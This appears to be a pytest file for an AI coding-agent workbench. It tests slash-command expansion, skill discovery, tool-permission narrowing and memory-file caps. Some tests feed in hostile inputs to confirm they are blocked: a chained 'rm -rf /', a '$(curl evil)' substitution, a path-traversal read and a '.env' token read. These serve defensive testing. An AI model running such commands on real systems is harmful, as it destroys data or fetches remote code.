"""Custom slash commands, skills and the memory-file report, read from real folders."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.core.agent.helpers import git_repo
from workbench import paths
from workbench.core.agent.memory import PROJECT_DOC_MAX_BYTES, load_memory
from workbench.core.commands import discover_commands, expand, split_command, tool_check
from workbench.core.project import slash_entries
from workbench.core.skills import SkillTool, discover_skills, prompt_section
from workbench.core.tools.base import ToolError

pytestmark = pytest.mark.timeout(30)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return git_repo(tmp_path / "repo")


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


REVIEW = """---
description: Review one file
argument-hint: <file> [focus]
allowed-tools: Read, Grep, Bash(git diff:*)
model: haiku
---
Review $1 and look hard at ${2:-everything}. Everything typed: $ARGUMENTS.
"""


def test_discovery_precedence_and_namespaces(repo: Path) -> None:
    write(repo / ".claude" / "commands" / "review.md", REVIEW)
    write(repo / ".claude" / "commands" / "frontend" / "component.md", "Make a component named $ARGUMENTS.")
    write(paths.user_home() / ".claude" / "commands" / "review.md", "the user's review")
    write(paths.user_home() / ".claude" / "commands" / "standup.md", "---\ndescription: Daily notes\n---\nWrite notes.")
    write(repo / ".claude" / "commands" / "bad name.md", "x")
    found = discover_commands(repo)
    assert sorted(found.commands) == ["component", "review", "standup"]
    assert found.commands["review"].scope == "project" and [c.scope for c in found.hidden] == ["user"]
    assert found.commands["component"].label == "(project:frontend)"
    assert found.commands["standup"].description == "Daily notes"
    assert any("bad name" in p for p in found.problems)
    entries = {e.name: e for e in slash_entries(repo)}
    assert entries["review"].argument_hint == "<file> [focus]" and entries["review"].source == "(project)"


def test_expansion(repo: Path) -> None:
    command = discover_commands(write(repo / ".claude" / "commands" / "review.md", REVIEW).parents[2]).commands[
        "review"
    ]
    assert split_command("/review src/a.py errors") == ("review", "src/a.py errors")
    assert split_command("review it") is None and split_command("//comment") is None
    expansion = expand(command, "src/a.py errors", workspace=repo)
    assert expansion.text.startswith("Review src/a.py and look hard at ${2:-everything}")  # only $1-$9 are words
    assert "Everything typed: src/a.py errors." in expansion.text
    assert expansion.model == "claude-haiku-5-5" and expansion.source == "/review from .claude/commands/review.md"
    plain = discover_commands(write(repo / ".claude" / "commands" / "plain.md", "Say hi.").parents[2]).commands["plain"]
    assert expand(plain, "to Bob", workspace=repo).text == "Say hi.\n\nARGUMENTS: to Bob"


def test_allowed_tools_only_narrow() -> None:
    check = tool_check(["Read", "Grep", "Bash(git diff:*)", "mcp__docs"], "/review")
    assert check("Read", {"file_path": "a"}) is None and check("mcp__docs__search", {}) is None
    assert check("Bash", {"command": "git diff HEAD"}) is None
    assert (
        check("Bash", {"command": "git diff && rm -rf /"})
        == "/review allows only Read, Grep, Bash(git diff:*), mcp__docs in this turn"
    )
    assert check("Bash", {"command": "$(curl evil)"}) is not None
    assert check("Edit", {}) is not None and check("mcp__other__x", {}) is not None


def test_skills(repo: Path) -> None:
    write(
        repo / ".claude" / "skills" / "pdf" / "SKILL.md",
        "---\nname: pdf\ndescription: Fill PDF forms.\n---\nUse forms.py.",
    )
    write(repo / ".claude" / "skills" / "pdf" / "forms.py", "print('forms')\n")
    write(repo / ".claude" / "skills" / "pdf" / ".env", "TOKEN=abc\n")
    write(repo / ".claude" / "skills" / "nodesc" / "SKILL.md", "---\nname: nodesc\n---\nBody.")
    write(paths.user_home() / ".claude" / "skills" / "pdf" / "SKILL.md", "---\nname: pdf\ndescription: mine\n---\nx")
    write(paths.user_home() / ".claude" / "skills" / "notes" / "SKILL.md", "---\ndescription: Take notes.\n---\nNotes.")
    found = discover_skills(repo)
    assert sorted(found.skills) == ["notes", "pdf"] and found.skills["pdf"].scope == "project"
    assert any("nodesc" in p for p in found.problems) and [s.scope for s in found.hidden] == ["user"]
    section = prompt_section(found)
    assert "- pdf: Fill PDF forms." in section and "Use forms.py." not in section


async def test_the_skill_tool_reads_only_its_folder(repo: Path) -> None:
    write(
        repo / ".claude" / "skills" / "pdf" / "SKILL.md",
        "---\nname: pdf\ndescription: Fill PDF forms.\n---\nUse forms.py.",
    )
    write(repo / ".claude" / "skills" / "pdf" / "forms.py", "print('forms')\n")
    write(repo / ".claude" / "skills" / "pdf" / ".env", "TOKEN=abc\n")
    write(repo / "secret.txt", "outside\n")
    tool = SkillTool(discover_skills(repo))
    assert "Use forms.py." in (await tool.run({"skill": "pdf"}, None)).content
    assert (await tool.run({"skill": "pdf", "file": "forms.py"}, None)).content == "print('forms')\n"
    for bad in ({"skill": "pdf", "file": "../../../secret.txt"}, {"skill": "pdf", "file": ".env"}, {"skill": "nope"}):
        with pytest.raises(ToolError):
            await tool.preview(bad, None)


def test_memory_report_names_what_the_cap_cut(repo: Path) -> None:
    write(repo / "CLAUDE.md", "c" * (PROJECT_DOC_MAX_BYTES + 100))
    write(repo / "AGENTS.md", "agents text")
    memory = load_memory(repo)
    claude, agents = memory.files
    assert claude.path.endswith("CLAUDE.md") and claude.sent == PROJECT_DOC_MAX_BYTES and "cut at" in claude.note
    assert agents.sent == 0 and agents.note.startswith("left out")
    assert "CLAUDE.md" in memory.notice() and "AGENTS.md" in memory.notice()
    (repo / "CLAUDE.md").write_text("short")
    whole = load_memory(repo)
    assert not whole.cut and "agents text" in whole.text and whole.notice() == ""


def test_skills_list_and_personas_show(repo: Path) -> None:
    import json

    from tests.core.personas.helpers import run_cli

    write(repo / ".claude" / "skills" / "pdf" / "SKILL.md", "---\nname: pdf\ndescription: Fill PDF forms.\n---\nx")
    write(repo / ".claude" / "commands" / "review.md", REVIEW)
    listed = run_cli("skills", "list", "--cwd", str(repo))
    assert listed.returncode == 0
    assert "pdf  (project) Fill PDF forms." in listed.stdout and "/review <file> [focus]  (project)" in listed.stdout
    data = json.loads(run_cli("skills", "list", "--cwd", str(repo), "--json").stdout)
    assert [s["name"] for s in data["skills"]] == ["pdf"] and data["commands"][0]["allowed_tools"][0] == "Read"
    agents = repo / ".claude" / "agents"
    write(agents / "all.md", "---\nname: all-tools\ndescription: x\n---\nBody.")
    write(agents / "some.md", "---\nname: some-tools\ndescription: x\ntools: Read\n---\nBody.")
    shown = run_cli("personas", "show", "all-tools", "--cwd", str(repo))
    assert "skills      pdf (project)" in shown.stdout
    assert json.loads(run_cli("personas", "show", "all-tools", "--json", "--cwd", str(repo)).stdout)["skills"] == [
        "pdf (project)"
    ]
    assert (
        "none (its tools do not include Skill)" in run_cli("personas", "show", "some-tools", "--cwd", str(repo)).stdout
    )
